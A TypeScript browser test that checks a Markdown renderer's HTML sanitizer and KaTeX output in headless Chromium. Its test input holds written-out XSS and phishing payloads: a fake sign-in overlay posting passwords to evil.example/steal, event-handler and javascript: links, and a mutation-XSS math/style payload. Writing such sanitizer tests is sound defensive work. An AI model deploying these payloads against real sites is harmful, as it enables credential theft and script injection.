import fs from 'node:fs';
import path from 'node:path';
import { build } from 'esbuild';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/**
 * The Markdown renderer in a real browser (issue 9 point 8). The web project has no DOM (no jsdom),
 * and a sanitizer is only as good as the parser it runs on, so this bundles render-markdown.ts with
 * esbuild and runs it in Chromium (playwright-core, as the e2e suite): the browser's own HTML
 * parser, DOMPurify and KaTeX, no mocks. Skipped loudly without Chromium (fails under REQUIRE_ALL).
 */
const CHROMIUM = '/usr/bin/chromium';
const RENDERER = path.join(import.meta.dirname, 'render-markdown.ts');
const MATH = path.join(import.meta.dirname, 'render-math.ts');
const available = fs.existsSync(CHROMIUM);
if (!available) {
  if (process.env.REQUIRE_ALL === '1') throw new Error(`REQUIRE_ALL=1 but ${CHROMIUM} is missing`);
  console.warn(`\n*** web: ${CHROMIUM} is missing; the Markdown sanitizer test is SKIPPED ***\n`);
}

/** What the rendered tree holds, read by the browser. */
interface Inspection {
  html: string;
  text: string;
  /** Tags outside KaTeX output (the user's own markup). */
  userTags: string[];
  /** Attribute names outside KaTeX output. */
  userAttributes: string[];
  styled: string[];
  positioned: string[];
  classesOutsideKatex: string[];
  links: { href: string; rel: string; target: string }[];
  katex: number;
  katexDisplay: number;
  mathml: string[];
}

/** A demand body drawing a fake 'session expired' sign-in page, and every other trick beside it. */
const ATTACK = [
  '# 审核',
  [
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">',
    '<h2>会话已过期，请重新登录</h2>',
    '<form action="https://evil.example/steal" method="post"><input name="phone"><input type="password" name="pw"><button>登录</button></form>',
    '</div>',
  ].join('\n'),
  '<style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<div class="ant-modal-wrap ant-modal-mask mb-user-trigger">spoofed modal</div>',
  '<span class="katex" style="position:absolute;top:0">fake katex</span>',
  '[click](javascript:alert(1)) [data](data:text/html,x) [rel](/manage/x) [ok](https://example.org/a?b=1) <a href="mailto:a@example.org" target="_self" rel="opener">mail</a>',
  '<img src="x" onerror="alert(1)"> <img src="data:image/png;base64,AAAA" alt="data"> <img src="https://example.org/p.png" onload="alert(2)" alt="pic">',
  '<svg><a href="javascript:alert(3)"><text>svg</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>',
  '<a href="https://example.org" title="$x$">formula in an attribute</a>',
  '<p onclick="alert(5)" id="app" name="x">clicky</p>',
  '- [x] done\n- [ ] open',
  'Inline $x^2$ and display:',
  '$$\\int_0^1 f(x)\\,dx$$',
  '$\\raisebox{-80em}{far}\\kern{-90em}\\rule{500em}{500em}$',
].join('\n\n');

describe.skipIf(!available)('Markdown rendering in a real browser', () => {
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    const bundle = await build({
      stdin: {
        contents: `import { renderMarkdown } from ${JSON.stringify(RENDERER)}; import { renderMath } from ${JSON.stringify(MATH)}; window.renderMarkdown = (s) => renderMarkdown(s, renderMath);`,
        resolveDir: import.meta.dirname,
        loader: 'ts',
      },
      bundle: true,
      write: false,
      format: 'iife',
      target: 'es2022',
      // KaTeX's stylesheet (and its fonts) do not matter to what the sanitizer lets through.
      loader: { '.css': 'empty' },
      logLevel: 'silent',
    });
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
    page = await browser.newPage();
    const alerts: string[] = [];
    page.on('dialog', (dialog) => {
      alerts.push(dialog.message());
      void dialog.dismiss();
    });
    await page.setContent('<!doctype html><html><body><main id="root"></main></body></html>');
    await page.addScriptTag({ content: bundle.outputFiles[0]?.text ?? '' });
    expect(alerts).toEqual([]);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
  });

  /** Renders `source` into the page as MarkdownView does and inspects the result. */
  const render = (source: string): Promise<Inspection> =>
    page.evaluate((src) => {
      const root = document.getElementById('root') as HTMLElement;
      const out = (window as unknown as { renderMarkdown: (s: string) => DocumentFragment | string }).renderMarkdown(
        src,
      );
      if (typeof out === 'string') root.innerHTML = out;
      else root.replaceChildren(out);
      const all = [...root.querySelectorAll('*')];
      // KaTeX's output: a .katex span, wrapped in .katex-display for display math.
      const outside = all.filter((el) => !el.closest('.katex, .katex-display'));
      const describe = (el: Element) => `${el.tagName.toLowerCase()}${el.className ? `.${String(el.className)}` : ''}`;
      return {
        html: root.innerHTML,
        text: root.textContent ?? '',
        userTags: [...new Set(outside.map((el) => el.tagName.toLowerCase()))].sort(),
        userAttributes: [...new Set(outside.flatMap((el) => el.getAttributeNames()))].sort(),
        styled: outside.filter((el) => el.hasAttribute('style')).map(describe),
        positioned: all
          .filter((el) => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(el).position))
          .map(describe),
        classesOutsideKatex: outside.filter((el) => el.hasAttribute('class')).map(describe),
        links: [...root.querySelectorAll('a')].map((a) => ({
          href: a.getAttribute('href') ?? '',
          rel: a.getAttribute('rel') ?? '',
          target: a.getAttribute('target') ?? '',
        })),
        katex: root.querySelectorAll('.katex').length,
        katexDisplay: root.querySelectorAll('.katex-display').length,
        mathml: [...root.querySelectorAll('.katex math')].map((m) => m.outerHTML),
      };
    }, source);

  it('a fake sign-in overlay keeps no form, input, style, frame, script, handler or position', async () => {
    const result = await render(ATTACK);
    for (const tag of ['form', 'input', 'button', 'style', 'iframe', 'script', 'svg', 'math', 'mglyph', 'textarea'])
      expect(result.userTags).not.toContain(tag);
    expect(result.userAttributes.filter((name) => name.startsWith('on'))).toEqual([]);
    expect(result.userAttributes).not.toContain('style');
    expect(result.userAttributes).not.toContain('class');
    expect(result.userAttributes).not.toContain('id');
    expect(result.userAttributes).not.toContain('name');
    expect(result.styled).toEqual([]);
    expect(result.positioned).toEqual([]);
    expect(result.classesOutsideKatex).toEqual([]);
    expect(result.html).not.toMatch(/ant-modal|mb-user-trigger|javascript:|data:text/);
    // The text stays readable: what was said is shown, only the markup is gone.
    expect(result.text).toContain('会话已过期，请重新登录');
    expect(result.text).toContain('spoofed modal');
    // Task lists show their state as text, not as inputs.
    expect(result.text).toContain('☑ done');
    expect(result.text).toContain('☐ open');
  });

  it('links go only to http, https and mailto, and open apart with rel="noopener noreferrer nofollow"', async () => {
    const result = await render(ATTACK);
    // Refused links (javascript:, data:, relative) are left as their text, not as dead links.
    expect(result.links.map((l) => l.href)).toEqual([
      'https://example.org/a?b=1',
      'mailto:a@example.org',
      'https://example.org',
    ]);
    expect(result.text).toContain('click data rel ok mail');
    for (const link of result.links) {
      expect(link.rel).toBe('noopener noreferrer nofollow');
      expect(link.target).toBe('_blank');
    }
    // A formula written inside an attribute stays its source text there.
    expect(result.html).toContain('title="$x$"');
  });

  it('formulas still render with KaTeX, inline and display, and only KaTeX output carries classes and styles', async () => {
    const result = await render(ATTACK);
    expect(result.katex).toBe(3);
    expect(result.katexDisplay).toBe(1);
    expect(result.mathml.some((m) => m.includes('<msup>') && m.includes('<mi>x</mi>'))).toBe(true);
    expect(result.mathml.some((m) => m.includes('∫'))).toBe(true);
    const plain = await render('$x^2$ and $$\\int_0^1 f(x)\\,dx$$ and `$not math$`');
    expect(plain.katex).toBe(2);
    expect(plain.text).toContain('$not math$');
  });
});
